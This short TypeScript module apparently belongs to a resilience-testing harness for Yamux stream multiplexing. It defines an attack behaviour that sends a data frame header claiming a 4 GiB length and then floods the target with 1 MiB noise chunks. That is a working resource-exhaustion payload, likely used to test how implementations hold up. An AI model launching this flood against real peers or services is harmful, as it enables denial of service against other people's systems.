/** A member: a Yamux frame of 4 GiB. */
import { memberFlooding } from '../attack/member.js'
import type { Behaviour } from '../attack/target.js'
import { FRAME, header, noise1MiB } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => memberFlooding(target, signal, (n) => n === 0 ? header(FRAME.data, 0, 1, 0xffff_ffff) : noise1MiB)
